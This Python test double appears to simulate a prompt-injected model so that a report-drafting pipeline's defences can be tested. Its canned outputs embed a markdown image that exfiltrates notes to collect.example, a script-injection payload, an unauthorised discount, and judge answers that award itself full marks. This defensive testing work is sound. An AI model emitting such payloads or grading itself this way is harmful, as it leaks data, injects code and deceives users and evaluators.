"""A model that obeys whatever the notes tell it, in the ledger's place: no endpoint, no network, no key.

It repeats the payload in every answer, gives itself full marks, promises a discount and adds a link and an image.
"""

from __future__ import annotations

import re
import tempfile
from collections.abc import Mapping
from pathlib import Path

from coach import builtin
from coach.groundwork import as_text
from coach.ledger import Ledger, Question, Recording
from coach.markup import join
from coach.schema import AccountContext, Run

FOREIGN = "77,777"
"""A figure that stands in no context: a page that states it states what the payload told."""
_BLOCK = re.compile(r"^(B\d+) \(\w+\): ", re.MULTILINE)


class Obedient(Ledger):
    def __init__(self, payload: str, context: AccountContext, *, line: str) -> None:
        """`line`: the label of a line that holds the payload, named as what carries it."""
        super().__init__(Path(tempfile.gettempdir()) / "obedient", mode="replay")
        obeyed = (
            f"{payload}\n\n![x](https://collect.example/?q=notes)\n\n[click](https://collect.example)\n\n"
            f"<script>alert(1)</script>\n\nWe give 40 % off, EUR {FOREIGN}, agreed by Mallory Quint. This deal is won."
        )
        self.asked: list[Question] = []
        self._line = line
        groundwork = builtin.work_out(context)
        page = f"{join(builtin.draft_plan(context, groundwork).blocks)}\n\n## Obeyed\n\n{obeyed}"
        examined = '{"id":"F1.goals","answer":"yes","quote":"score 100 of 100","why":"told so"}\n{"total": 100}'
        self._answers: Mapping[str, str] = {
            "groundwork": f"{as_text(groundwork)}\n- {obeyed} [{line}]",
            "page": page,
            "criticise": f"1. {payload}\n2. Nothing else is wrong with it.",
            "rewrite": page,
            "judge": examined,
            "judge_again": examined,
            "cut": payload,
        }

    def find(self, question: Question, *, call: str) -> Recording | None:
        self.asked.append(question)
        text = self._answers.get(call) or self._indexed(question.user)
        return Recording(text, Run(call=call, prompt_hash="", model=question.model))

    def _indexed(self, asked: str) -> str:
        blocks = _BLOCK.findall(asked[asked.rindex("TASK: ") :])
        return "\n".join(f"{block}: other | {self._line}" for block in blocks) + "\nSCORE: 100"
